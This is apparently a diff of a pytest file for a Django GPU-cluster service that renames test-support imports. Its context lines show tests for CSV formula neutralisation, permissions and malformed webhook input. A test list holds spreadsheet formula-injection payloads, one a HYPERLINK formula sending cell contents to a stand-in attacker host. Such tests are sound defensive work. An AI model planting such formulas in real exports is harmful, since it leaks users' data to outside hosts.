@@ -12,9 +12,9 @@ import pytest
 
 from binder import models, sync
 from binder.runtime.passes import run_pass
-from tests.support.cluster_mode import cluster_gpus, mirrored_devices
-from tests.support.controlplane import ControlPlane
-from tests.support.shapes import A10, H100, class_obj, gpu_obj, namespace_obj, node_obj
+from harness.cluster_mode import cluster_gpus, mirrored_devices
+from harness.controlplane import ControlPlane
+from harness.shapes import A10, H100, class_obj, gpu_obj, namespace_obj, node_obj
 
 GPUS = "/apis/gpuplane.io/v1alpha1"
 
@@ -105,7 +105,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@S
 def _formula_records() -> None:
     from datetime import timedelta
 
-    from tests.support.shapes import NOW
+    from harness.shapes import NOW
     from usage.models import UsageRecord
 
     models.Namespace.objects.create(name="t1")
@@ -137,7 +137,7 @@ def test_csv_exports_neutralise_cells_that_start_like_a_formula(clock: Any) -> N
     from django.contrib.auth.models import User
     from django.test import Client
 
-    from tests.support.accounts import account, token_client
+    from harness.accounts import account, token_client
 
     _formula_records()
     api = token_client(account("alice", "t1"))
@@ -219,7 +219,7 @@ def test_staff_without_the_view_permission_read_no_tenant_through_the_api(clock:
     from django.contrib.auth.models import Permission
     from django.test import Client
 
-    from tests.support.accounts import account, token_client
+    from harness.accounts import account, token_client
 
     _formula_records()
     helpdesk = account("helpdesk", staff=True)
@@ -250,7 +250,7 @@ def test_the_board_caps_cells_per_node_and_counts_a_pod_bound_to_a_notready_node
     whatever its phase and the node's readiness (the kubelet may yet start it)."""
     from binder.mirror.snapshot import load_objects
     from gpuplane.staff.board import MAX_CELLS
-    from tests.support.shapes import plain_pod_obj
+    from harness.shapes import plain_pod_obj
 
     hog = plain_pod_obj("t1", "hog", A10, 200_000, "n1")
     stuck = plain_pod_obj("t2", "stuck", A10, 3, "n2")
@@ -283,8 +283,8 @@ def test_the_board_caps_cells_per_node_and_counts_a_pod_bound_to_a_notready_node
     ],
 )
 def test_webhook_answers_400_for_a_lone_surrogate_or_nul(client: Any, where: str, value: str, field: str) -> None:
-    from tests.support.factories import new_vmi, review
-    from tests.support.webhook_calls import post
+    from harness.factories import new_vmi, review
+    from harness.webhook_calls import post
 
     body = review(new_vmi("t1", "vm1", ["vm1-gpu0"]))
     body["request"][where] = value
@@ -295,7 +295,7 @@ def test_webhook_answers_400_for_a_lone_surrogate_or_nul(client: Any, where: str
 
 @pytest.mark.django_db
 def test_api_path_parts_with_a_nul_are_400_not_500() -> None:
-    from tests.support.accounts import account, token_client
+    from harness.accounts import account, token_client
 
     models.Namespace.objects.create(name="t1")
     api = token_client(account("alice", "t1"))
@@ -402,7 +402,7 @@ def test_a_grant_does_not_read_a_namespace_recreated_under_its_name(clock: Any) 
 
     from django.test import Client
 
-    from tests.support.shapes import NOW
+    from harness.shapes import NOW
     from usage.models import UsageRecord
 
     models.Namespace.objects.create(name="a", uid="uid-first")
